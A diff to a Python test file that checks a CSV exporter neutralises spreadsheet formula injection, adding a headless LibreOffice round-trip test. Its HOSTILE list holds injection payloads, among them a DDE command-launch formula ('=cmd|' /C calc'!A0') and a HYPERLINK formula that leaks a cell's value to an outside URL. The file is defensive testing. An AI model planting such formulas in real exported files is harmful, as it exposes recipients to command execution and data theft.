@@ -2,10 +2,14 @@
 
 import csv
 import io
+import os
+import shutil
+import subprocess
 from collections import Counter
 from dataclasses import replace
 from pathlib import Path
 
+import openpyxl
 import polars as pl
 import pytest
 from hypothesis import given
@@ -97,7 +101,22 @@ def test_no_cell_begins_as_a_formula(rows: list[dict[str, str]]) -> None:
 
 
 HOSTILE = [
-    *("=1+1", "+44 1803", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "'=1", '"=1', "＝1", "\u200b=1", "''=1"),
+    *(
+        "=1+1",
+        "+44 1803",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        " =1",
+        "'=1",
+        '"=1',
+        "＝1",
+        "\u200b=1",
+        "''=1",
+        "\x00=1+1",
+    ),
     *('=HYPERLINK("http://example.org?x="&A1)', "=cmd|' /C calc'!A0"),
 ]
 
@@ -134,3 +153,22 @@ def test_a_hostile_name_stays_in_its_cell(five: Audit) -> None:
     assert {undone(row["name"]) for row in named} == {name}
     assert all(row["name"].startswith("'=") for row in named)
     assert len(rows) == len(read(written(five)))
+
+
+def office() -> str:
+    """LibreOffice: in CI it must be there."""
+    found = shutil.which("soffice")
+    if found is None:
+        assert os.environ.get("TIPSTAFF_CI") != "1", "LibreOffice is not installed"
+        pytest.skip("LibreOffice is not installed")
+    return found
+
+
+def test_a_spreadsheet_program_finds_texts_and_numbers_and_no_formula(tmp_path: Path) -> None:
+    path = tmp_path / "hostile.csv"
+    path.write_text("\ufeff" + "".join(line(["row", text, 7]) for text in HOSTILE), encoding="utf-8", newline="")
+    profile = (tmp_path / "profile").as_uri()
+    options = ["--headless", f"-env:UserInstallation={profile}", "--convert-to", "xlsx", "--outdir", str(tmp_path)]
+    subprocess.run([office(), *options, str(path)], check=True, capture_output=True, timeout=120)
+    sheet = openpyxl.load_workbook(tmp_path / "hostile.xlsx").worksheets[0]
+    assert [[cell.data_type for cell in row] for row in sheet.iter_rows()] == [["s", "s", "n"]] * len(HOSTILE)
